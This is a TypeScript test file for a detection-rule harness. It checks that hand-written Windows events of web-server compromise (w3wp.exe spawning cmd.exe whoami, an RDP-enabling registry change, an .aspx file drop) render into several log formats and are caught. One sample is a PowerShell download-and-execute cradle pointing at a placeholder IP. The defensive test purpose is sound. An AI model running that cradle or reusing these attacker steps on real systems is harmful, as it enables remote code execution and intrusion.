import { describe, expect, it } from 'vitest';
import { runTests } from '../../../src/harness/run-tests.js';
import { ACTIVITIES } from '../../../src/harness/activities/registry.js';
import { buildTaxonomyEvent, readBackRenderings, readTaxonomyEvents } from '../../../src/harness/taxonomy-events.js';
import { createTempPack, RULE_FILE, RULE_ID, ruleText, TEST_DIR } from './temp-pack.js';
import { writeTempFolder } from './properties-pack.js';
import { join } from 'node:path';

const specWith = (entries: string): string => `rule: ${RULE_ID}\nevents:\n${entries}`;

const TAXONOMY = `# w3wp.exe starting cmd.exe and whoami.exe, Explorer starting cmd.exe, w3wp.exe compiling with csc.exe
- ParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe
  Image: C:\\Windows\\System32\\cmd.exe
  CommandLine: cmd.exe /c whoami
  User: IIS APPPOOL\\DefaultAppPool
- ParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe
  Image: C:\\Windows\\System32\\whoami.exe
- ParentImage: C:\\Windows\\explorer.exe
  Image: C:\\Windows\\System32\\cmd.exe
- ParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe
  Image: C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe
`;

describe('golden events in taxonomy fields', () => {
  it('are rendered into every process-creation shape and replayed in each, 4688 versions 0 and 1 expected quiet for lack of ParentImage', async () => {
    const root = await createTempPack({
      [RULE_FILE]: ruleText({ falsepositives: ['Unknown'] }),
      [`${TEST_DIR}/rule-test.yml`]: specWith(`  - file: events/iis.yml
    verdict: match
    provenance: written by hand for the harness tests
    overrides:
      - { event: 2, verdict: no-match }
      - { event: 3, verdict: no-match }
`),
      [`${TEST_DIR}/events/iis.yml`]: TAXONOMY,
    });
    const { report } = await runTests({ repoRoot: root });
    const [rule] = report.rules;
    expect(rule?.failures).toEqual([]);
    const cases = rule?.cases ?? [];
    // Four events, each in the 8 renderings of a process creation.
    expect(cases).toHaveLength(32);
    expect(new Set(cases.map((c) => c.rendering))).toEqual(new Set(ACTIVITIES.process_creation.formats));
    const first = cases.filter((c) => c.event === 0);
    expect(first.filter((c) => c.got === 'match').map((c) => c.rendering).sort()).toEqual(
      ['flat-json', 'security-4688-evtx-json', 'security-4688-v2-xml', 'sysmon-evtx-json', 'sysmon-xml', 'winlogbeat-ecs-json'],
    );
    const blind = first.filter((c) => c.blindSpot !== undefined);
    expect(blind.map((c) => c.rendering).sort()).toEqual(['security-4688-v0-xml', 'security-4688-v1-xml']);
    expect(blind.every((c) => c.expected === 'no-match' && c.passed && /ParentImage/.test(c.blindSpot ?? ''))).toBe(true);
    expect(new Set(cases.map((c) => c.source))).toEqual(new Set(['sysmon-1', 'security-4688', 'flat']));
    expect(report.diagnostics).toContainEqual(expect.objectContaining({ code: 'golden/blind-spot', severity: 'note' }));
    expect(rule?.coverage?.percent).toBe(100);
  });

  it('fail where the rule misses a rendering, naming the rendering', async () => {
    const root = await createTempPack({
      [RULE_FILE]: ruleText({ images: ["'*\\cmd.exe'"], falsepositives: ['Unknown'] }),
      [`${TEST_DIR}/rule-test.yml`]: specWith(`  - file: events/iis.yml
    verdict: match
    provenance: written by hand for the harness tests
`),
      [`${TEST_DIR}/events/iis.yml`]: TAXONOMY.split('- ParentImage: C:\\Windows\\explorer.exe')[0] ?? '',
    });
    const { report } = await runTests({ repoRoot: root });
    const messages = report.rules[0]?.failures.map((f) => f.message) ?? [];
    expect(messages).toContain('tests/rules/proc_creation_win_test_shell/events/iis.yml #1 (sysmon-xml): expected match, got no-match');
  });

  it('are read from JSON and NDJSON too when the entry says render: true, and replayed as they are otherwise', async () => {
    const line = JSON.stringify({ ParentImage: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', Image: 'C:\\Windows\\System32\\cmd.exe' });
    const entry = (render: string) => `  - file: events/iis.ndjson
    verdict: match
    provenance: written by hand for the harness tests${render}
`;
    const files = { [RULE_FILE]: ruleText({ falsepositives: ['Unknown'] }), [`${TEST_DIR}/events/iis.ndjson`]: `${line}\n` };
    const rendered = await runTests({ repoRoot: await createTempPack({ ...files, [`${TEST_DIR}/rule-test.yml`]: specWith(entry('\n    render: true')) }) });
    expect(rendered.report.rules[0]?.cases.map((c) => c.rendering)).toEqual(ACTIVITIES.process_creation.formats);
    const flat = await runTests({ repoRoot: await createTempPack({ ...files, [`${TEST_DIR}/rule-test.yml`]: specWith(entry('')) }) });
    expect(flat.report.rules[0]?.cases.map((c) => [c.source, c.rendering])).toEqual([['flat', undefined]]);
  });

  it('report fields that are not text, events that are not mappings and what an activity cannot build, at their lines', async () => {
    const folder = await writeTempFolder({ 'bad.yml': '- Image: C:\\x.exe\n  Hashes: [a, b]\n- just text\n- ParentImage: C:\\p.exe\n' });
    const read = await readTaxonomyEvents(join(folder, 'bad.yml'), 'bad.yml');
    expect(read.diagnostics.map((d) => `${d.line}:${d.code}`)).toEqual(['1:taxonomy/field', '3:taxonomy/not-a-mapping']);
    expect(read.events).toHaveLength(1);
    const built = buildTaxonomyEvent(ACTIVITIES.process_creation, read.events[0]!.fields, 2);
    expect(built).toEqual({ problem: 'a process creation needs an Image' });
  });

  it('render registry, network, file, module, script and logon events too, every shape read back', () => {
    const samples = {
      registry: { Image: 'C:\\Windows\\regedit.exe', TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections', Details: 'DWORD (0x00000000)' },
      network_connection: { Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', DestinationIp: '198.51.100.7', DestinationPort: 1389 },
      file_event: { Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', TargetFilename: 'C:\\inetpub\\wwwroot\\x.aspx' },
      image_load: { Image: 'C:\\Windows\\System32\\inetsrv\\w3wp.exe', ImageLoaded: 'C:\\Windows\\Temp\\psl.dll', OriginalFileName: 'System.Management.Automation.dll' },
      ps_script: { ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')" },
      logon: { EventID: 4624, LogonType: 10, IpAddress: '::1' },
    } as const;
    for (const [name, fields] of Object.entries(samples)) {
      const activity = ACTIVITIES[name as keyof typeof samples];
      const built = buildTaxonomyEvent(activity, fields, 0);
      if ('problem' in built) throw new Error(built.problem);
      const read = readBackRenderings(activity, built, 'events/x.yml', 0);
      expect(read.map((r) => r.format)).toEqual(activity.formats);
      for (const rendering of read) {
        for (const [field, value] of Object.entries(fields)) expect({ name, format: rendering.format, field, value: String(rendering.record?.get(field)) }).toEqual({ name, format: rendering.format, field, value: String(value) });
      }
    }
  });
});
